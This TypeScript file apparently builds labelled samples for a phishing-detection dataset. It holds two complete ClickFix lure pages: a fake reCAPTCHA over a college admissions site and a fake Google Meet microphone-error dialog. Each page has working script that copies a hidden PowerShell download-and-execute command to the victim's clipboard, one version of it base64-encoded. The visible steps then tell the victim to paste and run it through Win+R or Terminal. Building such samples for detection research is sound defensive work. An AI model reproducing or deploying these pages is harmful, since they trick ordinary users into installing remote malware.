import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { b64, doc, wordmark, emblem, FONTS } from '../parts/yn-kit.js';

// ClickFix pages: mostly on hacked college and small-business WordPress sites.
const psEnc = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');

export const entries: Entry[] = [
{
  id: 'yn-clickfix-college-site-human-check',
  label: 'clickfix',
  kind: 'clickfix-captcha',
  url: 'https://www.gnpgcollege-bhopal.ac.in/admission-2025-26/',
  body: doc({
    title: 'Admission 2025-26 | Guru Nanak PG College, Bhopal',
    css: `.site{filter:blur(2px);padding:20px;max-width:960px;margin:0 auto}.site h1{color:#7b1113}
#cf{position:fixed;inset:0;background:rgba(255,255,255,.96);display:flex;align-items:center;justify-content:center;font-family:-apple-system,system-ui,'Segoe UI',Roboto,Arial}
.bx{width:520px}.bx h2{font-weight:500;font-size:28px;margin:0 0 8px}.ck{border:1px solid #e0e0e0;background:#fafafa;height:66px;width:300px;display:flex;align-items:center;padding:0 14px;gap:12px;margin:20px 0;border-radius:3px}.ck input{width:26px;height:26px}
.st{display:none;border:1px solid #ddd;border-radius:6px;padding:16px;background:#fff;font-size:14.5px}.st ol{padding-left:20px}.st kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px;font-family:monospace}.ft{font-size:12px;color:#666;margin-top:30px}`,
    body: `<div class="site"><h1>Guru Nanak PG College, Bhopal</h1><p>Affiliated to Barkatullah University · NAAC 'B+' · Admission open for B.Com, BBA, BCA, B.Sc, M.Com 2025-26. Last date for online application: 15 July 2025.</p><p>Merit list · Fee structure · Prospectus download · Scholarship (MP Gaon ki Beti, Post-matric)</p></div>
<div id="cf"><div class="bx"><h2>www.gnpgcollege-bhopal.ac.in</h2><p>Verify you are human by completing the action below.</p>
<label class="ck"><input type="checkbox" id="chk"> <span>I'm not a robot</span><span style="margin-left:auto;font-size:10px;color:#888;text-align:center">reCAPTCHA<br>Privacy - Terms</span></label>
<div class="st" id="st"><b>Verification steps</b><ol><li>Press <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Press <kbd>CTRL</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li></ol><p style="font-size:13px;color:#555">Perform the steps above to finish verification. Ray ID: 8f1a2c9e4b7d31a0</p></div>
<p class="ft">www.gnpgcollege-bhopal.ac.in needs to review the security of your connection before proceeding.</p></div></div>
<script>
var cmd='powershell -w hidden -nop -c "iex (iwr -UseBasicParsing \\'https://cdn-jsdelivr-stat.com/v/recaptcha.ps1\\')" # \\u2705 I am not a robot - reCAPTCHA Verification ID: 7741-2289';
function cp(t){try{navigator.clipboard.writeText(t)}catch(e){}var ta=document.createElement('textarea');ta.value=t;ta.style.position='fixed';ta.style.opacity='0';document.body.appendChild(ta);ta.select();try{document.execCommand('copy')}catch(e){}ta.remove()}
document.getElementById('chk').addEventListener('click',function(){cp(cmd);var s=this;setTimeout(function(){s.checked=false;document.getElementById('st').style.display='block'},600)});
</script>`,
  }),
},
{
  id: 'yn-clickfix-fake-meet-mic-error',
  label: 'clickfix',
  kind: 'clickfix-fake-error',
  url: 'https://meet.gogle-meet-join.com/xqz-ptkd-hwe',
  body: doc({
    title: 'Meet - xqz-ptkd-hwe',
    css: `body{background:#202124;color:#e8eaed;font-family:'Google Sans',Roboto,Arial}.v{display:flex;gap:40px;max-width:1000px;margin:80px auto;align-items:center}.cam{width:560px;height:315px;background:#3c4043;border-radius:8px;display:flex;align-items:center;justify-content:center}.j h2{font-weight:400}.err{background:#fff;color:#202124;border-radius:8px;padding:20px;max-width:420px}.err button{background:#1a73e8;color:#fff;border:0;border-radius:4px;height:36px;padding:0 18px}.stp{display:none;font-size:14px;margin-top:10px}`,
    body: `<div class="v"><div class="cam">Camera is off</div><div class="j"><h2>Ready to join?</h2><p>Weekly review – Sales North Zone</p>
<div class="err"><b>Microphone access error</b><p style="font-size:14px">Your browser is blocking access to the microphone and camera (error code 0x8007045D). Click "Try fix" to copy the fix, then run it to restore audio devices.</p><button id="f">Try fix</button>
<div class="stp" id="s"><ol><li>Press <b>Win + X</b> and open <b>Terminal</b></li><li>Paste with <b>Ctrl + V</b></li><li>Press <b>Enter</b>, then rejoin the meeting</li></ol></div></div></div></div>
<script>
var x="${psEnc("$u='https://meet-audio-fix.com/drv/a.ps1';iex ((New-Object System.Net.WebClient).DownloadString($u))")}";
document.getElementById('f').onclick=function(){var c='powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand '+x;navigator.clipboard.writeText(c).then(function(){document.getElementById('s').style.display='block'},function(){document.getElementById('s').style.display='block'})};
</script>`,
  }),
},
];
